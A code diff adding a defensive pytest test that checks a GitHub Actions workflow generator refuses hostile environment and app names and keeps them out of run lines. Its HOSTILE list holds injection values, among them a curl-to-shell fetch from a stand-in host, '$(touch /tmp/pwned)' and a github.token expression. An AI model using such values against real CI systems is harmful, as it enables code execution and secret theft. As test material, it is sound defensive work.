@@ -73,3 +73,29 @@ def test_the_golden_files_are_valid_for_github_and_zizmor(tmp_path: Path) -> Non
 def test_a_file_without_markers_is_refused() -> None:
     with pytest.raises(InputError, match="without stx-pulumi's markers"):
         workflow.render(CASES["one-app"], "name: ours\non: push\n")
+
+
+HOSTILE = ["dev;curl -s evil.example | sh;x", "dev\nrun: curl evil", "prod'] || true || 'a",
+           "$(touch /tmp/pwned)", "`id`", "dev\" && echo owned #", "${{ github.token }}"]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_env_or_app_name_is_refused_and_would_be_inert_anyway(name: str) -> None:
+    """Refused where the spec is made (exit 2 naming it); and were a check to miss it, it
+    would reach the workflow only as a quoted `env:` value, never in a `run:` line."""
+    import yaml
+
+    for field in ("envs", "protected", "apps"):
+        with pytest.raises(InputError, match=r"ci github: (env|app) "):
+            WorkflowSpec(**{**BASE, "envs": ("dev",), "protected": ("prod",),
+                            field: (name,)})
+    spec = object.__new__(WorkflowSpec)  # past the checks, to show the quoting alone
+    for key, value in {**BASE, "envs": (name,), "protected": ("prod", name), "apps": (name,),
+                       "directory": "."}.items():
+        object.__setattr__(spec, key, value)
+    data = yaml.safe_load(workflow.body(spec))
+    runs = [step.get("run", "") for job in data["jobs"].values() for step in job["steps"]]
+    assert all(name not in run for run in runs)
+    steps = [s for job in data["jobs"].values() for s in job["steps"] if "env" in s]
+    assert any(s["env"].get("STX_ENV") == name for s in steps)  # the value, as it is
+    assert any(s["env"].get("APPS") == name for s in steps)
